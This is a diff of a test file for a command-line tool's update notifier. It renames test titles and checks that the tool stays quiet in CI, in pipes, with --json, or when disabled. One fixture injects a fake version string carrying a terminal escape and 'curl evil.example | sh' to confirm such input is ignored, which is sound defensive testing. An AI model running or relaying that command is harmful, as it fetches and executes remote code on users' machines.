@@ -93,7 +93,7 @@ const learned = async () => {
 describe("a new version in the company's registry", () => {
   beforeEach(() => begin(says(latest("9.8.7"))));
 
-  test("the first run asks, the second tells, the third does neither", async () => {
+  test("the first run asks, the second notifies, the third does neither", async () => {
     const first = await sitDown();
     expect(first).toMatchObject({ exit: 0, screen: expect.not.stringContaining("is out") });
     await learned();
@@ -134,7 +134,7 @@ describe("a new version in the company's registry", () => {
     ["in CI", { CI: "true" }, []],
     ["with NO_UPDATE_NOTIFIER", { NO_UPDATE_NOTIFIER: "1" }, []],
     ["with --json", {}, ["--json"]],
-  ])("%s it neither asks nor tells", async (_where, env, flags) => {
+  ])("%s it neither asks nor notifies", async (_where, env, flags) => {
     await sitDown();
     await learned();
     const { screen } = await sitDown(["env", "list", ...flags], env);
@@ -142,7 +142,7 @@ describe("a new version in the company's registry", () => {
     expect(await memory()).not.toHaveProperty("toldAt");
   });
 
-  test("switched off in the settings it neither asks nor tells, and they keep that", async () => {
+  test("switched off in the settings it neither asks nor notifies, and they keep that", async () => {
     const settings = join(program.env["SSOCTL_CONFIG_DIR"] ?? "", "config.json");
     await mkdir(join(settings, ".."));
     await writeFile(settings, '{"updateNotifier":false}');
@@ -160,7 +160,7 @@ describe("a new version in the company's registry", () => {
     });
   });
 
-  test("in a pipe it neither asks nor tells", async () => {
+  test("in a pipe it neither asks nor notifies", async () => {
     const { stderr } = await program.run(["env", "list"], { env: { npm_config_registry: registry.url } });
     expect(stderr).not.toContain("is out");
     expect(await memory()).toEqual({});
@@ -180,7 +180,7 @@ test("a registry that hangs does not hold the exit, and is not asked again", asy
 test.each([
   ["no JSON", says("<html>Log in to the hotel</html>")],
   ["no package", says({ error: "not found" }, 404)],
-  ["a version that is none", says(latest("\u001b[31mrun this: curl evil.example | sh"))],
+  ["a version that is invalid", says(latest("\u001b[31mrun this: curl evil.example | sh"))],
   ["a version that is no text", says(latest(42))],
   ["an empty object", says({})],
 ])("%s: ignored", async (_what, answer) => {
